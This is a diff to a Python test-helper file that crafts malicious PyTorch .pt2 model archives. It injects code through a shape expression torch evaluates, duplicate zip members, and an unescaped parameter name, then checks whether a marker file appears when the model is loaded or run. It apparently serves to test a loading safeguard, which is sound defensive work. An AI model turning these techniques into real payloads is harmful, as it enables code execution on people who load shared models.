@@ -8,6 +8,7 @@ import json
 import subprocess
 import sys
 import textwrap
+import warnings
 import zipfile
 from pathlib import Path
 
@@ -105,6 +106,22 @@ def evil_torchscript(folder: Path, target: Path, marker: Path) -> Path:
     return target
 
 
+def plain_torch_run_creates(path: Path, marker: Path) -> bool:
+    """As plain_torch_load_creates, and the loaded module also classifies one 32 x 32 image: code in the
+    module's generated forward runs then, not when it is built."""
+    code = textwrap.dedent("""
+        import sys, torch
+        try:
+            torch.export.load(sys.argv[1]).module()(torch.rand(1, 3, 32, 32))
+        except Exception:
+            pass
+    """)
+    subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, timeout=300)
+    created = marker.exists()
+    marker.unlink(missing_ok=True)
+    return created
+
+
 def plain_torch_load_creates(path: Path, marker: Path) -> bool:
     """Loads ``path`` with torch alone in a child process (as the app did before the check) and says
     whether the marker appeared: proof that the crafted file really runs code."""
@@ -121,3 +138,41 @@ def plain_torch_load_creates(path: Path, marker: Path) -> bool:
     created = marker.exists()
     marker.unlink(missing_ok=True)
     return created
+
+
+def pt2_with_a_second_program(good_pt2: Path, target: Path, marker: Path, copies: int, evil_at: int) -> Path:
+    """``copies`` members named models/model.json, the one at ``evil_at`` with code in a shape expression
+    (torch sympifies it, an eval, while loading): zipfile reads the last copy, torch's reader the one its
+    binary search lands on."""
+    with zipfile.ZipFile(good_pt2) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as crafted:
+        for info in original.infolist():
+            data = original.read(info.filename)
+            if not info.filename.endswith("models/model.json"):
+                crafted.writestr(info.filename, data)
+                continue
+            text = data.decode()
+            symbol = text.index('"expr_str": "Symbol(') + len('"expr_str": "')
+            evil = (text[:symbol] + f"open({str(marker)!r}, 'w').close() or " + text[symbol:]).encode()
+            for index in range(copies):
+                with warnings.catch_warnings():
+                    warnings.simplefilter("ignore")  # "Duplicate name": the point of the file
+                    crafted.writestr(info.filename, evil if index == evil_at else data)
+    return target
+
+
+def pt2_with_code_in_a_parameter_name(good_pt2: Path, target: Path, marker: Path) -> Path:
+    """Its first parameter renamed, in the program and the weights, to a name torch writes into the
+    module's generated code as getattr(self.x, "NAME") without escaping the quotes."""
+    with zipfile.ZipFile(good_pt2) as original:
+        config_name = next(name for name in original.namelist() if name.endswith("model_weights_config.json"))
+        old = next(iter(json.loads(original.read(config_name))["config"]))
+    head, _, last = old.rpartition(".")
+    assert "." not in str(marker), "torch splits the name at dots: the path must have none"
+    new = f'{head}.{last}"+str(open({str(marker)!r}, "w"))+"'.lstrip(".")
+    encoded = json.dumps(new)[1:-1].encode()
+
+    def rename(name, data):
+        if name.endswith("models/model.json") or name == config_name:
+            return data.replace(json.dumps(old).encode(), b'"' + encoded + b'"')
+        return data
+    return _rewrite_zip(good_pt2, target, rename)
